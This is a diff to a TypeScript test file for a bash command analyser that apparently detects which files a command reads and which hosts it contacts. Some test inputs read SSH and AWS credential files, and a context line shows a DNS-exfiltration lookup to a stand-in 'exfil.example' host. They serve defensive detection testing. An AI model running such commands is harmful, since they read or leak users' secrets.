@@ -83,6 +83,42 @@ describe('bash: resolving what actually runs', () => {
     );
   });
 
+  it('asks whois servers on port 43', () => {
+    const fx = facts('whois -h whois.example.net example.com\n');
+    assert.deepEqual(
+      fx.facts.flatMap((f) => f.hosts.map((h) => `${h.host}:${h.port ?? ''}`)),
+      ['whois.example.net:43'],
+    );
+  });
+
+  // counts, separators, patterns, scripts and keys given to readers are no files they read
+  const reads: Array<[string, string[]]> = [
+    ['head -c 60 notes.txt', ['notes.txt']],
+    ['tail -n 5 -s 2 log.txt', ['log.txt']],
+    ['grep -m 5 -A 3 TODO notes.txt', ['notes.txt']],
+    ['grep -e TODO -e FIXME notes.txt', ['notes.txt']],
+    ['grep --regexp=TODO notes.txt', ['notes.txt']],
+    ['grep -f ~/.ssh/id_rsa /dev/null', ['/dev/null', '~/.ssh/id_rsa']],
+    ['rg -g "*.md" -m 2 TODO docs', ['docs']],
+    ["sed -e 's/a/b/' notes.txt", ['notes.txt']],
+    ["awk -F , '{print $1}' data.csv", ['data.csv']],
+    ['cut -d , -f 2 data.csv', ['data.csv']],
+    ['sort -t , -k 2 -o sorted.csv data.csv', ['data.csv']],
+    ['xxd -l 64 ~/.ssh/id_ed25519', ['~/.ssh/id_ed25519']],
+    ['base64 -w 0 ~/.aws/credentials', ['~/.aws/credentials']],
+    ['od -N 16 -t x1 blob.bin', ['blob.bin']],
+    ['diff -U 3 a.txt b.txt', ['a.txt', 'b.txt']],
+  ];
+  for (const [src, want] of reads)
+    it(`${src} reads ${want.join(', ')}`, () => {
+      assert.deepEqual(
+        facts(src)
+          .facts.flatMap((f) => f.reads)
+          .sort(),
+        [...want].sort(),
+      );
+    });
+
   it('names a host built from variables by its static suffix', () => {
     const fx = facts('nslookup "${chunk}.${i}.ns.exfil.example"');
     assert.equal(fx.facts[0]?.hosts[0]?.host, '*.ns.exfil.example');
